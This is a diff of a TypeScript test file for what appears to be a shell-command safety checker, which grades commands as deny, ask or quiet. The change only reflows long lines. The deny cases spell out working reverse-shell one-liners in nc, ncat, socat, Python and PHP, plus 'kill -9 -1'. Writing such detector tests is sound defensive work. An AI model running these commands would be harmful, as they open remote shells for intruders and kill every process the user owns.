@@ -6,12 +6,14 @@ import { ctx, simple } from '../support/helpers';
 
 const run = (argv: string[]): Finding[] => systemPack.analyze(simple(argv), ctx()) ?? [];
 const worst = (argv: string[]) => run(argv).reduce((m, f) => Math.max(m, f.severity), 0);
-const deny = (argv: string[]) => assert.ok(worst(argv) >= 90, `${argv.join(' ')} should deny: ${JSON.stringify(run(argv))}`);
+const deny = (argv: string[]) =>
+  assert.ok(worst(argv) >= 90, `${argv.join(' ')} should deny: ${JSON.stringify(run(argv))}`);
 const ask = (argv: string[]) => {
   const s = worst(argv);
   assert.ok(s >= 40 && s < 90, `${argv.join(' ')} should ask: ${JSON.stringify(run(argv))}`);
 };
-const quiet = (argv: string[]) => assert.ok(worst(argv) < 40, `${argv.join(' ')} should stay quiet: ${JSON.stringify(run(argv))}`);
+const quiet = (argv: string[]) =>
+  assert.ok(worst(argv) < 40, `${argv.join(' ')} should stay quiet: ${JSON.stringify(run(argv))}`);
 
 test('kill -1 in every spelling denies; a specific pid stays quiet', () => {
   deny(['kill', '-9', '-1']);
@@ -159,7 +161,8 @@ test('names that are also object keys do not confuse dispatch', () => {
   assert.equal(systemPack.analyze(simple(['__proto__']), ctx()), undefined);
 });
 
-const runWith = (argv: string[], extra: Partial<SimpleCommand>, files: Record<string, string> = {}): Finding[] => systemPack.analyze(simple(argv, extra), ctx(files)) ?? [];
+const runWith = (argv: string[], extra: Partial<SimpleCommand>, files: Record<string, string> = {}): Finding[] =>
+  systemPack.analyze(simple(argv, extra), ctx(files)) ?? [];
 
 test('kill of the pids a lookup by name returns is judged like pkill NAME', () => {
   ask(['kill', '-9', '$(pgrep postgres)']);
@@ -191,7 +194,11 @@ test('shells handed to a network peer deny; ordinary netcat and socket use stay 
   deny(['nc', '-e', '/bin/sh', '10.0.0.1', '4444']);
   deny(['ncat', '--sh-exec', '/bin/bash', '-l', '9001']);
   deny(['socat', "exec:'bash -li',pty,stderr", 'tcp:10.0.0.1:4444']);
-  deny(['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")']);
+  deny([
+    'python3',
+    '-c',
+    'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")',
+  ]);
   deny(['php', '-r', '$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");']);
   quiet(['nc', '-zv', 'localhost', '5432']);
   quiet(['nc', '-l', '8080']);
